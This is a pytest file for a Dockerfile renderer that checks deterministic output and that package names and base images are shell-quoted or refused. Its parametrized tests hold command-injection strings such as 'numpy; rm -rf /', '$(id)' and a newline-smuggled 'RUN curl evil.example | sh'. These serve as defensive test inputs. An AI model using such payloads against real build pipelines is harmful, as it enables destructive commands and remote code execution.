"""Dockerfile rendering: deterministic bytes and shell-safe package words."""

import shlex

import pytest
from pydantic import ValidationError

from studio_operator.api.template import ImageBuild
from studio_operator.templates.dockerfile import InvalidBuildInput, render_dockerfile


def build(**fields) -> ImageBuild:
    fields.setdefault("baseImage", "python:3.12-slim")
    fields.setdefault("registry", {"repository": "registry.example.com/studios/py"})
    return ImageBuild.model_validate(fields)


def unchecked(**fields) -> ImageBuild:
    """A build spec as if the API's patterns had let anything through."""
    return build().model_copy(update=fields)


def test_renders_packages_one_a_line_after_the_base_image():
    text = render_dockerfile(build(aptPackages=["git", "curl"], pipPackages=["numpy==2.1.0", "pandas>=2"],
                                   dockerfile="ENV A=1\nRUN echo ready"))
    assert text == (
        "# Rendered by studio-operator from a CodeStudioTemplate; edit the template, not this file.\n"
        "FROM python:3.12-slim\n"
        "USER root\n"
        "RUN apt-get update \\\n"
        " && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends \\\n"
        "      curl \\\n"
        "      git \\\n"
        " && rm -rf /var/lib/apt/lists/*\n"
        "RUN python3 -m pip install --no-cache-dir \\\n"
        "      numpy==2.1.0 \\\n"
        "      'pandas>=2'\n"
        "ENV A=1\n"
        "RUN echo ready\n"
    )


def test_no_packages_means_no_install_steps():
    assert render_dockerfile(build()) == (
        "# Rendered by studio-operator from a CodeStudioTemplate; edit the template, not this file.\n"
        "FROM python:3.12-slim\nUSER root\n"
    )


def test_package_order_and_repeats_do_not_change_the_output():
    a = render_dockerfile(build(aptPackages=["git", "curl", "vim"], pipPackages=["b", "a"]))
    b = render_dockerfile(build(aptPackages=["vim", "git", "curl", "git"], pipPackages=["a", "b"]))
    assert a == b
    assert render_dockerfile(build(aptPackages=["git"])) == render_dockerfile(build(aptPackages=["git"]))


def test_extra_lines_keep_their_text_but_not_their_line_endings():
    crlf = render_dockerfile(build(dockerfile="\r\nENV A=1  \r\nRUN echo hi\r\n\r\n"))
    lf = render_dockerfile(build(dockerfile="ENV A=1\nRUN echo hi"))
    assert crlf == lf and lf.endswith("ENV A=1\nRUN echo hi\n")


@pytest.mark.parametrize("name", ["numpy; rm -rf /", "a b", "$(id)", "`id`", "x'y", "x|y", "x>y", "x&&y"])
def test_shell_characters_stay_inside_one_quoted_word(name):
    text = render_dockerfile(unchecked(pip_packages=[name]))
    line = next(line for line in text.splitlines() if line.startswith("      "))
    assert shlex.split(line) == [name]


@pytest.mark.parametrize("name", ["git\nRUN curl evil.example | sh", "git\r", "git\x00", " git", ""])
def test_anything_that_could_end_the_instruction_is_refused(name):
    with pytest.raises(InvalidBuildInput):
        render_dockerfile(unchecked(apt_packages=[name]))


@pytest.mark.parametrize("base", ["python:3.12\nRUN id", "python 3.12", ""])
def test_base_image_with_whitespace_is_refused(base):
    with pytest.raises(InvalidBuildInput):
        render_dockerfile(unchecked(base_image=base))


def test_api_validation_refuses_unsafe_package_names_first():
    for bad in ("numpy; rm -rf /", "a b", "$(id)"):
        with pytest.raises(ValidationError):
            build(pipPackages=[bad])
        with pytest.raises(ValidationError):
            build(aptPackages=[bad])
